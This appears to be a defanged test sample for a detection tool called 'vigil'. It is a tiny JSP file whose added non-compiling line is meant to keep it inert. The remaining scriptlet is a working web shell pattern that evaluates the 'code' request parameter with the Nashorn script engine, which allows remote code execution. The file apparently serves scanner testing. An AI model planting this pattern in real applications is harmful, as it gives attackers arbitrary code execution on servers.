<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("nashorn");
e.eval(request.getParameter("code"));
%>
